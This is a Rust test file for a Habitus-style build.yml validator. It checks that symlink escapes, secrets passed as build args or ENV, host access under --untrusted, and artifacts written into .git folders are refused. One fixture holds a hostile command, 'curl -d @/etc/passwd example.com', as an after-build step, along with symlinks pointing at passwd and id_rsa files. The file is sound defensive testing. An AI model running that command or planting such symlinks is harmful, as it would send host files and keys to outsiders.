    let outside_real = fs::canonicalize(outside.path()).unwrap();
    fs::write(outside.path().join("passwd"), "root:x:0:0\n").unwrap();
    fs::write(outside.path().join("id_rsa"), "key\n").unwrap();
    symlink(outside.path(), dir.path().join("out")).unwrap();
    symlink("..", dir.path().join("sub/ctx")).unwrap();
    symlink("..", dir.path().join("up")).unwrap();
    symlink(
        outside.path().join("passwd"),
        dir.path().join("Dockerfile.evil"),
    )
    .unwrap();
    symlink(outside.path().join("id_rsa"), dir.path().join("key")).unwrap();
    let yml = "\
build:
  version: 2016-03-14
  steps:
    keys:
      name: keys
      dockerfile: Dockerfile
      artifacts:
        - /authorized_keys:out
        - /x:out/deeper
    ctx:
      name: ctx
      context: up
      dockerfile: Dockerfile
    evil:
      name: evil
      dockerfile: Dockerfile.evil
      secrets:
        k:
          type: file
          value: key
";
    let text = errors(dir.path(), yml);
    let w = dir.path().display();
    let o = outside_real.display();
    let help = |link: &str| {
        format!("  help: paths are resolved, not read: remove the symlink `{link}` or name a path that stays inside the work directory `{w}`")
    };
    let want = [
        format!("error: build.yml:8:11: step `keys`: artifact destination `out` leads out of the work directory through the symlink `out` -> `{}`", outside.path().display()),
        help("out"),
        format!("error: build.yml:9:11: step `keys`: artifact destination `out/deeper` leads out of the work directory through the symlink `out` -> `{}`", outside.path().display()),
        help("out"),
        "error: build.yml:12:16: step `ctx`: context `up` leads out of the work directory through the symlink `up` -> `..`".to_string(),
        help("up"),
        format!("error: build.yml:16:19: step `evil`: dockerfile `Dockerfile.evil` leads out of the work directory through the symlink `Dockerfile.evil` -> `{}/passwd`", outside.path().display()),
        help("Dockerfile.evil"),
        format!("error: build.yml:20:18: step `evil`: secret file `key` leads out of the work directory through the symlink `key` -> `{}/id_rsa`", outside.path().display()),
        help("key"),
    ]
    .join("\n");
    assert_eq!(text, want, "outside: {o}");
    // A link below the context (`sub/ctx -> ..`) leads back into the work
    // directory: allowed, and the context is the resolved folder.
    let ok = "\
build:
  version: 2016-03-14
  steps:
    a:
      name: a
      context: sub/ctx
      dockerfile: Dockerfile
";
    let loaded = check(dir.path(), ok).unwrap();
    assert_eq!(loaded.manifest.steps[0].context, dir.path());
    assert_eq!(
        loaded.manifest.steps[0].dockerfile_path,
        dir.path().join("Dockerfile")
    );
}

/// `depends_on` names another step's image (a common mistake, also in Go
/// Habitus's own examples): the help names the step that builds it.
#[test]
fn depends_on_an_image_name_suggests_the_step_that_builds_it() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    deployment:
      name: ironmountain:latest
      dockerfile: Dockerfile
    tests:
      name: tests
      dockerfile: Dockerfile
      depends_on:
        - ironmountain
";
    assert_eq!(
        errors(dir.path(), yml),
        "error: build.yml:11:11: step `tests`: `depends_on` names unknown step `ironmountain`\n  help: `depends_on` takes step keys: `ironmountain` is the image of step `deployment`"
    );
}

/// A build.yml in an older format (top-level `steps`, or `steps` as a
/// list) gets one error that shows its first step in the 2016-03-14 form.
#[test]
fn an_older_format_gets_one_error_with_its_first_step_converted() {
    let dir = workdir(&["Dockerfile"]);
    let top = "\
steps:
  - name: myorg/builder:1.0
    dockerfile: Dockerfile
    artifacts:
      - /go/bin/app
  - name: runtime
    dockerfile: Dockerfile.run
";
    let converted = "  help: habitus reads the 2016-03-14 format (Go Habitus's `build:` with `version:` and a mapping of `steps:`); the first step in it:
    build:
      version: 2016-03-14
      steps:
        builder:
          name: myorg/builder:1.0
          dockerfile: Dockerfile
          artifacts:
          - /go/bin/app";
    assert_eq!(
        errors(dir.path(), top),
        format!("error: build.yml:1:1: this looks like an older build.yml format: `steps` at the top level, without `build:` and `version:`\n{converted}")
    );
    let list = "\
build:
  version: 2016-03-14
  steps:
    - name: myorg/builder:1.0
      dockerfile: Dockerfile
      artifacts:
        - /go/bin/app
";
    assert_eq!(
        errors(dir.path(), list),
        format!("error: build.yml:3:3: `steps` is a list, as in an older build.yml format; it must be a mapping of step labels to steps\n{converted}")
    );
}

/// An `_env()` variable that is not set is named in every error about the
/// value it emptied, and positions (YAML errors too) are the file's own.
#[test]
fn errors_name_the_unset_variable_at_the_files_own_position() {
    let dir = workdir(&["Dockerfile"]);
    let head = "build:\n  version: 2016-03-14\n  steps:\n    step1:\n";
    let fix = |name: &str, line: usize| {
        format!("  help: `{name}` is not set, so `_env({name})` on line {line} is empty: `export {name}=…` or pass `--env {name}=…`")
    };
    assert_eq!(
        errors(dir.path(), &format!("{head}      name: _env(NAME)\n      dockerfile: Dockerfile\n")),
        format!("error: build.yml:4:5: step `step1`: missing `name`\n  help: `name` is the image name to build, e.g. `name: myorg/app`\n{}", fix("NAME", 5))
    );
    assert_eq!(
        errors(dir.path(), &format!("{head}      name: _env(IMAGE):_env(TAG)\n      dockerfile: Dockerfile\n")),
        format!("error: build.yml:5:13: invalid YAML: mapping values are not allowed in this context\n{}\n{}", fix("IMAGE", 5), fix("TAG", 5))
    );
    assert_eq!(
        errors(dir.path(), &format!("{head}      name: b.gcr.io/x/y:_env(GIT_LABEL)\n      dockerfile: Dockerfile\n")),
        format!("error: build.yml:5:25: invalid YAML: mapping values are not allowed in this context\n{}", fix("GIT_LABEL", 5))
    );
    assert_eq!(
        errors(dir.path(), &format!("{head}      name: app\n      dockerfile: Dockerfile\n      secrets:\n        ssh_key:\n          type: file\n          value: _env(GIT_SSH_KEY)\n")),
        format!("error: build.yml:8:9: step `step1`: secret `ssh_key` is missing `value`\n  help: for `file` the value is a host path; for `env` a variable NAME read from `HABITUS_NAME`\n{}", fix("GIT_SSH_KEY", 10))
    );
    // A set variable moves what follows it: the position is the file's.
    let long = EnvSource::Given(BTreeMap::from([(
        "IMAGE".to_string(),
        "a-much-longer-image-name".to_string(),
    )]));
    let yml = "build:\n  version: 2016-03-14\n  steps:\n    step1: { name: _env(IMAGE), dockerfile: Dockerfile, bogus: 1 }\n";
    let text = check_with(dir.path(), yml, &long, &providers())
        .unwrap_err()
        .to_string();
    assert!(
        text.starts_with("error: build.yml:4:57: step `step1`: unknown key `bogus`"),
        "{text}"
    );
    // A variable set to "" is named too.
    let empty = EnvSource::Given(BTreeMap::from([("NAME".to_string(), String::new())]));
    let yml = format!("{head}      name: _env(NAME)\n      dockerfile: Dockerfile\n");
    assert_eq!(
        check_with(dir.path(), &yml, &empty, &providers()).unwrap_err().to_string(),
        "error: build.yml:4:5: step `step1`: missing `name`\n  help: `name` is the image name to build, e.g. `name: myorg/app`\n  help: `NAME` is set but empty, so `_env(NAME)` on line 5 is empty: `export NAME=…` or pass `--env NAME=…`"
    );
    let yml = format!(
        "{head}      name: app\n      dockerfile: Dockerfile\n      args: {{ A: _env(IMAGE), B: [ }}\n"
    );
    let text = check_with(dir.path(), &yml, &long, &providers())
        .unwrap_err()
        .to_string();
    assert!(
        text.starts_with("error: build.yml:7:36: invalid YAML: did not find expected node content"),
        "{text}"
    );
}

/// Where each build arg that takes `_env()` is written, and which
/// variables it takes: what the warning about secrets in build args
/// names. No value is kept.
#[test]
fn args_that_take_env_are_recorded_with_their_line_and_variables() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    app:
      name: app
      dockerfile: Dockerfile
      args:
        NPM_TOKEN: _env(NPM_TOKEN)
        URL: \"https://_env(HOST)/_env(REPO)\"
        VERSION: 1.2
    other: { name: other, dockerfile: Dockerfile, args: { GH: _env(GH_PAT) } }
";
    let env = EnvSource::Given(BTreeMap::from([
        ("NPM_TOKEN".to_owned(), "tok-value".to_owned()),
        ("HOST".to_owned(), "example.com".to_owned()),
        ("REPO".to_owned(), "r".to_owned()),
        ("GH_PAT".to_owned(), "p".to_owned()),
    ]));
    let loaded = check_with(dir.path(), yml, &env, &providers()).expect("valid");
    let found: Vec<(&str, &str, usize, Vec<&str>)> = loaded
        .manifest
        .steps
        .iter()
        .flat_map(|step| {
            step.env_args.iter().map(|(name, arg)| {
                let vars = arg.vars.iter().map(String::as_str).collect();
                (step.label.as_str(), name.as_str(), arg.line, vars)
            })
        })
        .collect();
    assert_eq!(
        found,
        [
            ("app", "NPM_TOKEN", 8, vec!["NPM_TOKEN"]),
            ("app", "URL", 9, vec!["HOST", "REPO"]),
            ("other", "GH", 11, vec!["GH_PAT"]),
        ]
    );
    assert!(!format!("{:?}", loaded.manifest.steps[0].env_args).contains("tok-value"));
}

const EXPOSING_YML: &str = "\
build:
  version: 2016-03-14
  steps:
    app:
      name: app
      dockerfile: Dockerfile
      args:
        VERSION: _env(VERSION)
        NPM_TOKEN: _env(NPM_TOKEN)
";

const EXPOSING_DOCKERFILE: &str = "\
FROM scratch
ARG VERSION
ARG PUBLIC_KEY_URL
ARG GITHUB_TOKEN
ENV DB_PASSWORD=hunter2 \\
    MODE=prod
";

/// The warnings `habitus check` prints for `project`, each with its
/// position and step, and the fix.
fn exposure_warnings(dir: &Path) -> [String; 3] {
    let fix = "declare it under `secrets:` and fetch it from the secrets server, or mount it with BuildKit (`RUN --mount=type=secret`)";
    let yml = dir.join("build.yml");
    let dockerfile = dir.join("Dockerfile");
    [
        format!("warning: {}:9: step `app`: build arg `NPM_TOKEN` takes `_env(NPM_TOKEN)`: build args are stored in the image history; {fix}", yml.display()),
        format!("warning: {}:4: step `app`: `ARG GITHUB_TOKEN` looks like a secret: build args are stored in the image history; {fix}", dockerfile.display()),
        format!("warning: {}:5: step `app`: `ENV DB_PASSWORD` looks like a secret: `ENV` variables are stored in the image config; {fix}", dockerfile.display()),
    ]
}

/// `habitus check` warns about build args and `ENV` that look like
/// secrets, naming file:line, step and fix; ordinary names (`VERSION`) and
/// allowed ones (`PUBLIC_KEY_URL`) pass, and so does the check.
#[test]
fn check_warns_about_secrets_passed_as_build_args_or_env() {
    let h = crate::common::Habitus::new()
        .file("build.yml", EXPOSING_YML)
        .file("Dockerfile", EXPOSING_DOCKERFILE)
        .env("NPM_TOKEN", "npm-value-never-printed")
        .env("VERSION", "1.0")
        .arg("check");
    let out = h.run();
    out.assert_success();
    let warnings: Vec<&str> = out
        .stderr
        .lines()
        .filter(|l| l.starts_with("warning: "))
        .collect();
    assert_eq!(warnings, exposure_warnings(h.dir()), "{}", out.stderr);
    assert!(!out.stderr.contains("npm-value-never-printed"));
    assert!(!out.stderr.contains("hunter2"));
    assert!(out.stdout.contains("app"), "{}", out.stdout);
}

/// `--strict` (or Go's `-strict`) turns those warnings into errors: exit
/// 1, each error with its help, and no plan.
#[test]
fn check_strict_fails_on_secrets_passed_as_build_args_or_env() {
    for flag in ["--strict", "-strict"] {
        let h = crate::common::Habitus::new()
            .file("build.yml", EXPOSING_YML)
            .file("Dockerfile", EXPOSING_DOCKERFILE)
            .env("NPM_TOKEN", "x")
            .env("VERSION", "1.0")
            .args(["check", flag]);
        let out = h.run();
        assert_eq!(out.code(), Some(1), "{flag}: {out:?}");
        assert!(out.stdout.is_empty(), "{}", out.stdout);
        let [args, arg, env] = exposure_warnings(h.dir());
        for warning in [args, arg, env] {
            let (message, fix) = warning.rsplit_once("; ").unwrap();
            let error = format!(
                "{}\n  help: {fix}",
                message.replacen("warning: ", "error: ", 1)
            );
            assert!(
                out.stderr.contains(&error),
                "{flag}: {error}\n{}",
                out.stderr
            );
        }
    }
    // Nothing to refuse: --strict passes.
    let out = crate::common::Habitus::new()
        .file(
            "build.yml",
            "build:\n  version: 2016-03-14\n  steps:\n    app:\n      name: app\n      dockerfile: Dockerfile\n      args: { VERSION: _env(VERSION) }\n",
        )
        .file("Dockerfile", "FROM scratch\nARG VERSION\nARG PUBLIC_KEY_URL\nARG HABITUS_TOKEN\n")
        .env("VERSION", "1.0")
        .args(["check", "--strict"])
        .run();
    out.assert_success();
    assert!(!out.stderr.contains("warning"), "{}", out.stderr);
}

/// Parses `yml` as `build.yml` in `dir` as `--untrusted` does: `_env()`
/// reads only `env` (the `--env` pairs), with the allowances `untrusted`.
fn check_untrusted(
    dir: &Path,
    yml: &str,
    env: &[(&str, &str)],
    untrusted: &Untrusted,
) -> Result<Loaded, Diagnostics> {
    let env = EnvSource::Given(
        env.iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
    );
    parse(
        yml,
        &LoadOptions {
            file: Path::new("build.yml"),
            workdir: dir,
            env: &env,
            sec_providers: &providers(),
            untrusted: Some(untrusted),
        },
    )
}

/// A build.yml that reaches the host in every way `--untrusted` refuses:
/// a host variable, a file outside the work directory by `..`, one by a
/// symlink inside the work directory, the SSH agent and a host command.
const REACHES_THE_HOST: &str = "\
build:
  version: 2016-03-14
  steps:
    app:
      name: app
      dockerfile: Dockerfile
      args: { WHO: _env(USER) }
      ssh: true
      secrets:
        up: { type: file, value: ../outside/key }
        link: { type: file, value: innocent }
        inside: { type: file, value: keys/deploy }
      after_build_command: curl -d @/etc/passwd example.com
";

/// A work directory `work/` for [`REACHES_THE_HOST`] beside `outside/key`,
/// with `work/innocent` a symlink to it.
fn host_reaching_project() -> TempDir {
    let root = tempfile::tempdir().expect("temp dir");
    fs::create_dir_all(root.path().join("work/keys")).unwrap();
    fs::create_dir_all(root.path().join("outside")).unwrap();
    fs::write(root.path().join("work/Dockerfile"), "FROM scratch\n").unwrap();
    fs::write(root.path().join("work/keys/deploy"), "inside").unwrap();
    fs::write(root.path().join("outside/key"), "host secret").unwrap();
    std::os::unix::fs::symlink(
        root.path().join("outside/key"),
        root.path().join("work/innocent"),
    )
    .unwrap();
    root
}

#[test]
fn untrusted_refuses_every_host_access_at_its_position_naming_its_flag() {
    let root = host_reaching_project();
    let work = root.path().join("work");
    let outside = fs::canonicalize(root.path().join("outside")).unwrap();
    let err =
        check_untrusted(&work, REACHES_THE_HOST, &[], &Untrusted::default()).expect_err("refused");
    let key = outside.join("key");
    assert_eq!(
        err.to_string(),
        format!(
            "error: build.yml:7:20: `_env(USER)` reads this machine's environment; refused with --untrusted (allow it with --env USER=VALUE)
error: build.yml:8:7: step `app`: `ssh: true` forwards this machine's SSH agent; refused with --untrusted (allow it with --ssh)
error: build.yml:10:34: step `app`: secret `up` reads the file `../outside/key`, which resolves to `{k}`, outside the work directory; refused with --untrusted (allow it with --secret-dir {o})
error: build.yml:11:36: step `app`: secret `link` reads the file `innocent`, which resolves to `{k}`, outside the work directory; refused with --untrusted (allow it with --secret-dir {o})
error: build.yml:13:7: step `app`: `after_build_command` runs `curl -d @/etc/passwd example.com` on this machine; refused with --untrusted (allow it with --after-build-commands)",
            k = key.display(),
            o = outside.display()
        )
    );
    // Trusted, a host file is the user's to name; only a symlink that
    // leads a path written inside out of the work directory is refused.
    let trusted = check_with(&work, REACHES_THE_HOST, &no_env(), &providers())
        .expect_err("the symlink")
        .to_string();
    assert_eq!(trusted.matches("error: ").count(), 1, "{trusted}");
    assert!(
        trusted.contains(
            "secret file `innocent` leads out of the work directory through the symlink `innocent`"
        ),
        "{trusted}"
    );
}

#[test]
fn untrusted_refusals_come_with_the_other_errors_of_the_file() {
    let root = host_reaching_project();
    let work = root.path().join("work");
    let yml = REACHES_THE_HOST.replace(
        "      name: app\n",
        "      name: app\n      dockerfiel: x\n",
    );
    let err = check_untrusted(&work, &yml, &[], &Untrusted::default())
        .expect_err("refused")
        .to_string();
    assert!(err.contains("unknown key `dockerfiel`"), "{err}");
    assert_eq!(err.matches("refused with --untrusted").count(), 5, "{err}");
}

#[test]
fn each_flag_lets_its_host_access_through() {
    let root = host_reaching_project();
    let work = root.path().join("work");
    let outside = root.path().join("outside");
    let loaded = check_untrusted(
        &work,
        REACHES_THE_HOST,
        &[("USER", "ci")],
        &Untrusted {
            secret_dirs: vec![outside.clone()],
            ssh: true,
            after_build_commands: true,
            push: true,
        },
    )
    .expect("allowed");
    let step = &loaded.manifest.steps[0];
    assert_eq!(step.args["WHO"], "ci");
    assert!(step.ssh);
    assert!(step.after_build_command.is_some());
    // What is read is the path that was checked.
    let key = fs::canonicalize(outside.join("key")).unwrap();
    let values: Vec<&str> = step.secrets.values().map(|s| s.value.as_str()).collect();
    let deploy = fs::canonicalize(work.join("keys/deploy")).unwrap();
    assert_eq!(
        values,
        [
            deploy.to_str().unwrap(),
            key.to_str().unwrap(),
            key.to_str().unwrap()
        ]
    );
    // One allowance alone leaves the other refusals.
    let err = check_untrusted(
        &work,
        REACHES_THE_HOST,
        &[],
        &Untrusted {
            ssh: true,
            ..Untrusted::default()
        },
    )
    .expect_err("refused")
    .to_string();
    assert!(!err.contains("--ssh"), "{err}");
    assert_eq!(err.matches("refused with --untrusted").count(), 4, "{err}");
}

#[test]
fn an_untrusted_push_needs_the_push_flag() {
    let root = host_reaching_project();
    let work = root.path().join("work");
    let yml = "\
build:
  version: 2016-03-14
  steps:
    app:
      name: registry.example/team/app
      dockerfile: Dockerfile
      push: true
";
    let err = check_untrusted(&work, yml, &[], &Untrusted::default())
        .expect_err("refused")
        .to_string();
    assert_eq!(
        err.trim_end(),
        "error: build.yml:7:7: step `app`: `push: true` pushes with this machine's registry credentials; refused with --untrusted (allow it with --push)"
    );
    let allowed = Untrusted {
        push: true,
        ..Untrusted::default()
    };
    let loaded = check_untrusted(&work, yml, &[], &allowed).expect("allowed with --push");
    assert!(loaded.manifest.steps[0].push);
}

#[test]
fn untrusted_secret_files_stay_inside_with_dotdot_and_symlinks_resolved() {
    let root = host_reaching_project();
    let work = root.path().join("work");
    // `keys/../keys/deploy` stays inside; `keys/../../outside/key` does
    // not; `/etc/hostname` is absolute; `gone` is missing but inside.
    let yml = "\
build:
  version: 2016-03-14
  steps:
    app:
      name: app
      dockerfile: Dockerfile
      secrets:
        a: { type: file, value: keys/../keys/deploy }
        b: { type: file, value: keys/../../outside/key }
        c: { type: file, value: /etc/hostname }
        d: { type: file, value: gone }
";
    let err = check_untrusted(&work, yml, &[], &Untrusted::default())
        .expect_err("refused")
        .to_string();
    let lines: Vec<&str> = err.lines().collect();
    assert_eq!(lines.len(), 2, "{err}");
    assert!(lines[0].starts_with("error: build.yml:9:33: step `app`: secret `b` reads the file `keys/../../outside/key`, which resolves to `"), "{err}");
    assert!(
        lines[1].contains("secret `c` reads the file `/etc/hostname`, which resolves to `"),
        "{err}"
    );
    // A --secret-dir that is not a folder is named.
    let err = check_untrusted(
        &work,
        yml,
        &[],
        &Untrusted {
            secret_dirs: vec![work.join("nope"), work.join("keys")],
            ..Untrusted::default()
        },
    )
    .expect_err("refused")
    .to_string();
    assert!(
        err.contains(&format!(
            "error: build.yml: --secret-dir `{}` cannot be resolved: No such file or directory",
            work.join("nope").display()
        )),
        "{err}"
    );
    assert!(
        err.contains("outside the work directory and every --secret-dir"),
        "{err}"
    );
}

#[test]
fn an_artifact_into_git_is_refused_trusted_or_not() {
    let dir = workdir(&["Dockerfile"]);
    let yml = "\
build:
  version: 2016-03-14
  steps:
    app:
      name: app
      dockerfile: Dockerfile
      artifacts:
        - /x/config:.git
        - /x/.git
        - /x/hooks:./a/../.GIT/
        - /x/repo/.git:vendor
        - /x/y:sub/.git/modules
        - /x/.git/.:keep
        - /x/.gitignore
        - /x/.:sub
        - /x/tree:.github
";
    let err = errors(dir.path(), yml);
    let want = [
        "error: build.yml:8:11: step `app`: artifact `/x/config:.git` would land in `.git/config`, inside a `.git` folder, where git finds the hooks and configuration it runs",
        "error: build.yml:9:11: step `app`: artifact `/x/.git` would land in `.git`, inside a `.git` folder, where git finds the hooks and configuration it runs",
        "error: build.yml:10:11: step `app`: artifact `/x/hooks:./a/../.GIT/` would land in `.GIT/hooks`, inside a `.git` folder, where git finds the hooks and configuration it runs",
        "error: build.yml:11:11: step `app`: artifact `/x/repo/.git:vendor` would land in `vendor/.git`, inside a `.git` folder, where git finds the hooks and configuration it runs",
        "error: build.yml:12:11: step `app`: artifact `/x/y:sub/.git/modules` would land in `sub/.git/modules/y`, inside a `.git` folder, where git finds the hooks and configuration it runs",
    ];
    for line in want {
        assert!(
            err.contains(&format!(
                "{line}\n  help: copy the artifact to a folder outside `.git`"
            )),
            "{line}\n---\n{err}"
        );
    }
    assert_eq!(err.matches("inside a `.git` folder").count(), 5, "{err}");
    // `/x/.git/.` spills the folder's content into `keep`: the archive's
    // entries are checked when they are extracted, not here.
    let fine = yml
        .replace("        - /x/config:.git\n", "")
        .replace("        - /x/.git\n", "");
    let fine: String = fine
        .lines()
        .filter(|l| !l.contains(".GIT") && !l.contains("repo/.git") && !l.contains("sub/.git"))
        .map(|l| format!("{l}\n"))
        .collect();
    let loaded = check(dir.path(), &fine).expect("valid");
    assert_eq!(loaded.manifest.steps[0].artifacts.len(), 4);
}
